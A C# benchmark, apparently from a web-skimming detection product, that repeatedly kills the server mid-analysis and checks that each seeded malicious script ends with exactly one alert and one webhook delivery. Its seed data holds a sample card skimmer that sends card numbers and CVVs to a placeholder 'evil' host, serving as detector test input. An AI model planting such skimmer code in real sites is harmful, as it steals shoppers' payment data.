using System.Collections.Concurrent;
using System.Globalization;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using Microsoft.EntityFrameworkCore;
using PageShield.Accounts;
using PageShield.Alerts.Delivery;
using PageShield.Benchmarks.Reports;
using PageShield.Crawls;
using PageShield.Detection;
using PageShield.Inventory;
using PageShield.Inventory.Connections;
using PageShield.Inventory.Scripts;
using PageShield.Reports;
using PageShield.Reports.Urls;
using PageShield.Sites;
using PageShield.Storage;

namespace PageShield.Benchmarks.Alerts;

/// <summary>
/// Kills the whole server with SIGKILL at random moments while it analyzes skimmers, raises alerts and delivers them to a webhook, round after
/// round, then lets it finish. Every script must end with one alert and one delivery. Prints <c>verdict_kill.*</c>; the argument is the number
/// of kills.
/// </summary>
internal static class VerdictKillBenchmark
{
    private const int ScriptsPerKill = 40;

    public static async Task RunAsync(string[] args, CancellationToken cancellationToken)
    {
        var kills = args.Length > 0 ? int.Parse(args[0], CultureInfo.InvariantCulture) : Figures.IsFull ? 60 : 3;
        var folder = Directory.CreateTempSubdirectory("verdict-kill-").FullName;
        await using var hook = Receiver();
        await hook.App.StartAsync(cancellationToken);
        await using (await PrepareAsync(folder, hook.App.Urls.Single(), cancellationToken)) { }

        var scripts = kills * ScriptsPerKill;
        await SeedAsync(folder, scripts, cancellationToken);
        var cutOff = 0;
        for (var round = 0; round < kills; round++)
        {
            var server = await StartAsync(folder, cancellationToken);
            await WorksAsync(folder, cancellationToken);
            await Task.Delay(Random.Shared.Next(0, 2_000), cancellationToken);
            server.Kill();
            await server.DisposeAsync();
            cutOff += await EndLeasesAsync(folder, cancellationToken);
            await Console.Error.WriteLineAsync($"kill {round + 1}: {await WaitingAsync(folder, cancellationToken)} of {scripts} scripts wait");
        }

        await using (await StartAsync(folder, cancellationToken))
            for (var wait = 0; wait < 600 && await IsBusyAsync(folder, cancellationToken); wait++) await Task.Delay(500, cancellationToken);

        await using (var database = Open(folder))
        {
            var alerts = await database.Alerts.Where(static alert => alert.ScriptId != null).GroupBy(static alert => alert.SiteId)
                .Select(static group => new { group.Key, Count = group.Count() }).ToListAsync(cancellationToken);
            var deliveries = await database.AlertDeliveries.AsNoTracking().Where(static row => row.SiteId != null).ToListAsync(cancellationToken);
            Figures.Print("verdict_kill.kills", kills, "");
            Figures.Print("verdict_kill.cut_off", cutOff, "claims"); // that a kill left behind: moments in the middle of the work
            Figures.Print("verdict_kill.scripts", scripts, "");
            Figures.Print("verdict_kill.without_verdict", await WaitingAsync(folder, cancellationToken), "scripts");
            Figures.Print("verdict_kill.without_alert", scripts - alerts.Count, "scripts");
            Figures.Print("verdict_kill.alerted_twice", alerts.Count(static group => group.Count > 1), "scripts");
            Figures.Print("verdict_kill.undelivered", deliveries.Count(static row => row.State != DeliveryState.Delivered), "deliveries");
            Figures.Print("verdict_kill.not_received", deliveries.Count(row => !hook.Received.ContainsKey(row.MessageId)), "deliveries");
            // Sent, and killed before that was stored: the repetition has the same id.
            Figures.Print("verdict_kill.repeated", hook.Received.Values.Sum(static count => count - 1), "deliveries");
        }

        Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
        Directory.Delete(folder, recursive: true);
    }

    private static Hook Receiver()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        var app = builder.Build();
        ConcurrentDictionary<string, int> received = new(StringComparer.Ordinal);
        app.MapPost("/hook", (HttpRequest request) => received.AddOrUpdate(request.Headers["webhook-id"].ToString(), 1, static (_, count) => count + 1));
        return new Hook(app, received);
    }

    /// <summary>A first start: the schema, and a channel to the receiver.</summary>
    private static async Task<ServedProcess> PrepareAsync(string folder, string receiver, CancellationToken cancellationToken)
    {
        var port = ServedProcess.FreePort();
        var server = await StartAsync(folder, cancellationToken, port);
        string token;
        await using (var database = Open(folder))
        {
            token = new ApiTokens(database, TimeProvider.System).Issue("bench", "admin", null, "bench").Secret;
            await database.SaveChangesAsync(cancellationToken);
        }

        using var api = new HttpClient { BaseAddress = new Uri($"http://127.0.0.1:{port}") };
        api.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", token);
        var channel = new { name = "Receiver", kind = "webhook", target = $"{receiver}/hook", allowPrivate = new[] { new Uri(receiver).Authority } };
        using var made = await api.PostAsJsonAsync("/api/channels", channel, cancellationToken);
        if (!made.IsSuccessStatusCode) throw new InvalidOperationException(await made.Content.ReadAsStringAsync(cancellationToken));
        return server;
    }

    /// <summary>One site with one skimmer each, so that no alert covers two.</summary>
    private static async Task SeedAsync(string folder, int scripts, CancellationToken cancellationToken)
    {
        await using var database = Open(folder);
        var now = TimeProvider.System.GetUtcNow();
        for (var number = 1; number <= scripts; number++)
        {
            var source = $$"""document.addEventListener('submit', function () { fetch('https://evil{{number}}.example/c', { method: 'POST', body: document.querySelector('#cc-number').value + document.querySelector('#cvv').value }); });""";
            var site = new Site
            {
                Name = $"Shop {number}",
                Hosts = [$"shop{number}.example"],
                StartUrls = [],
                ReportKey = ReportKey.New().ToString(),
                CreatedAt = now,
            };
            database.Sites.Add(site);
            await database.SaveChangesAsync(cancellationToken);
            var content = new ScriptContent
            {
                Sha256 = Sha256Hash.OfText(source),
                Length = source.Length,
                Body = StoredBody.Compress(Encoding.UTF8.GetBytes(source)),
                FirstSeenAt = now,
            };
            var url = $"https://vendor{number}.example/x.js";
            database.ScriptContents.Add(content);
            database.Scripts.Add(new Script
            {
                SiteId = site.Id,
                Id = number,
                Kind = ScriptKind.External,
                Identity = Sha256Hash.OfText(url),
                IdentityReason = "",
                Url = url,
                UrlTemplate = url,
                ReportTemplate = url,
                Host = $"vendor{number}.example",
                Party = Party.Third,
                FirstSeenAt = now,
                LastSeenAt = now,
                CurrentSha256 = content.Sha256,
                VersionCount = 1,
            });
            database.ScriptVersions.Add(new ScriptVersion
            {
                SiteId = site.Id,
                ScriptId = number,
                Sha256 = content.Sha256,
                Url = url,
                FirstSeenAt = now,
                LastSeenAt = now,
            });
            database.PendingJudgements.Add(new PendingJudgement
            {
                Sha256 = content.Sha256,
                QueuedAt = now,
                NextAttemptAt = now,
                SiteId = site.Id,
                ScriptId = number,
            });
            await database.SaveChangesAsync(cancellationToken);
            database.ChangeTracker.Clear();
        }
    }

    /// <summary>Lets the leases run out that the killed server held; waiting for that takes minutes each time.</summary>
    /// <returns>How many there were.</returns>
    private static async Task<int> EndLeasesAsync(string folder, CancellationToken cancellationToken)
    {
        await using var database = Open(folder);
        var now = TimeProvider.System.GetUtcNow();
        var deliveries = database.AlertDeliveries.Where(row => row.State == DeliveryState.Waiting && row.NextAttemptAt > now);
        var judgements = database.PendingJudgements.Where(row => row.NextAttemptAt > now);
        return await judgements.ExecuteUpdateAsync(set => set.SetProperty(static row => row.NextAttemptAt, now), cancellationToken)
            + await deliveries.ExecuteUpdateAsync(set => set.SetProperty(static row => row.NextAttemptAt, now), cancellationToken);
    }

    /// <summary>Waits until the server has stored a verdict.</summary>
    private static async Task WorksAsync(string folder, CancellationToken cancellationToken)
    {
        var before = await WaitingAsync(folder, cancellationToken);
        for (var wait = 0; wait < 600 && before > 0 && await WaitingAsync(folder, cancellationToken) == before; wait++)
            await Task.Delay(50, cancellationToken);
    }

    private static async Task<int> WaitingAsync(string folder, CancellationToken cancellationToken)
    {
        await using var database = Open(folder);
        return await database.PendingJudgements.CountAsync(cancellationToken);
    }

    private static async Task<bool> IsBusyAsync(string folder, CancellationToken cancellationToken)
    {
        await using var database = Open(folder);
        return await database.PendingJudgements.AnyAsync(static row => row.GivenUpAt == null, cancellationToken)
            || await database.AlertDeliveries.AnyAsync(static row => row.State == DeliveryState.Waiting, cancellationToken);
    }

    private static Task<ServedProcess> StartAsync(string folder, CancellationToken cancellationToken, int? dashboard = null) =>
        ServedProcess.StartWebAsync(
            [
                $"--PageShield:DataDirectory={folder}", $"--PageShield:Dashboard=http://127.0.0.1:{dashboard ?? ServedProcess.FreePort()}",
                $"--PageShield:Reports=http://127.0.0.1:{ServedProcess.FreePort()}", $"--PageShield:Demo=http://127.0.0.1:{ServedProcess.FreePort()}",
            ], cancellationToken);

    private static PageShieldDbContext Open(string folder)
    {
        var options = new DbContextOptionsBuilder<PageShieldDbContext>();
        options.UsePageShieldSqlite(Path.Combine(folder, Database.FileName));
        return new PageShieldDbContext(options.Options);
    }

    private sealed record Hook(WebApplication App, ConcurrentDictionary<string, int> Received) : IAsyncDisposable
    {
        public ValueTask DisposeAsync() => App.DisposeAsync();
    }
}
